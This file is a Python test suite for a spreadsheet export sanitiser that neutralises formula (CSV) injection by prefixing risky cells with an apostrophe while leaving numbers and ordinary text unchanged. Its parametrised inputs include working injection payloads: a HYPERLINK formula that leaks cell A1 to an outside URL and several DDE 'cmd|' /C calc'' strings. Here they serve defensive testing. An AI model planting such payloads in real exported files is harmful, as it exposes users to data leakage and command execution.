"""What people open in a spreadsheet holds texts and numbers, and nothing that is computed."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from studio.data.spreadsheet import Cell, csv_text, harmless

SIGNS = "=+-@\t\r\n"


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.com?leak="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "＝1+1",
        "- a dash before a text",
        "-",
        "=",
    ],
)
def test_a_text_that_a_spreadsheet_would_compute_has_an_apostrophe_in_front(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "text", ["a;=1+1", 'a;"=1+1"', "a\t@SUM(A1)", "a\n=1", "a;-1+cmd|' /C calc'!A0", "\t=1", "\r=1"]
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_computed_wherever_a_spreadsheet_cuts(text: str, delimiter: str) -> None:
    for row in csv.reader(io.StringIO(csv_text([["1", text], [text, "1"]]), newline=""), delimiter=delimiter):
        assert not [cell for cell in row if cell.startswith(tuple("=+-@"))]


@pytest.mark.parametrize("cell", ["well done;-)", "a list:\n- one\n- two", "1;-5"])
def test_what_calls_nothing_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize("cell", ["-0.5", "+3", "-1e-05", "-.25", "-1,234.5", "-12 %", -0.5, -3, 2.5, float("-inf")])
def test_numbers_stay_numbers(cell: Cell) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize("cell", ["", "a=b", "it's", "'=1", "0.97", " text", "Ä", "1-2"])
def test_all_other_texts_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.lists(st.lists(st.text(alphabet=f"{SIGNS}12.,e%' aé\"", max_size=6), min_size=2, max_size=3), min_size=1))
def test_whatever_is_written_no_cell_begins_with_a_sign_but_a_number(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    for row, written in zip(rows, read, strict=True):
        for cell, found in zip(row, written, strict=True):
            assert found.replace("'", "") == cell.replace("'", "")
            assert not found.startswith(tuple(SIGNS)) or set(found) <= set("+-.,eE% 0123456789")
